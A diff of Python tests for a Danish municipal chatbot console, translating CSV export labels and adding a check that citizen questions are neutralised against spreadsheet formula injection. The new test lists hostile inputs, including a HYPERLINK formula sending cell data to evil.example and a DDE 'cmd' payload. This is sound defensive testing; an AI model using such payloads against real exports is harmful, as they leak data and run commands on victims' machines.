@@ -102,11 +102,11 @@ def test_analytics_csv_download(seeded: Any, client: Any, login: Callable[..., s
         'attachment; filename="statistik_2026-03-23_2026-03-31_0101.csv"'
     )
     body = response.get_data(as_text=True)
-    assert body.startswith("\ufeffsection;item;measure;value")
+    assert body.startswith("\ufeffAfsnit;Emne;Mål;Værdi")
     rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
-    summary = {r[2]: r[3] for r in rows if r[0] == "summary"}
-    assert (summary["conversations"], summary["containment"]) == ("6", "0,5")
-    assert ["hours", "Mon 09", "citizen_messages", "3"] in rows
+    summary = {r[2]: r[3] for r in rows if r[0] == "Overblik"}
+    assert (summary["Samtaler"], summary["Andel klaret af botten"]) == ("6", "0,5")
+    assert ["Pr. time", "mandag 09", "Beskeder fra borgere", "3"] in rows
 
 
 def test_unanswered_page_lists_clusters_with_a_link_to_the_editor(
@@ -169,7 +169,38 @@ def test_unanswered_municipality_filter_and_csv(
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")),
                                delimiter=";"))  # fmt: skip
     assert len(rows) == 4
-    assert {r["reason"] for r in rows} == {"handoff", "not_helpful", "fallback"}
+    assert {r["Hvad skete der"] for r in rows} == {
+        "Givet videre til medarbejder", "Svaret hjalp ikke", "Ikke forstået"
+    }  # fmt: skip
+
+
+def test_unanswered_csv_does_not_let_a_citizen_write_a_formula(
+    app: Any, store: Store, client: Any, login: Callable[..., str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from bot.questions import record_question
+    from knowledge.search import SearchResult
+
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
+        "+45 12 34 56 78 ring til mig",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ]
+    with store.transaction() as s:
+        for i, text in enumerate(hostile):
+            assert record_question(s, f"h{i}", "0101", SearchResult(text, "fallback", []))
+    monkeypatch.setattr(
+        bot.web.insight, "get_knowledge", lambda: SimpleNamespace(embedder=OneHotEmbedder())
+    )
+    login(client, "editor")
+    body = client.get("/konsol/ubesvarede.csv").get_data(as_text=True)
+    texts = [r["Spørgsmål"] for r in csv.DictReader(io.StringIO(body.lstrip("\ufeff")),
+                                                     delimiter=";")]  # fmt: skip
+    assert len(texts) == len(hostile)
+    assert all(t.startswith("'") for t in texts), texts
+    # the text is otherwise kept (whitespace as the question log stores it)
+    assert "'-1+1" in texts and "'+45 12 34 56 78 ring til mig" in texts
 
 
 def test_no_questions_loads_no_model(
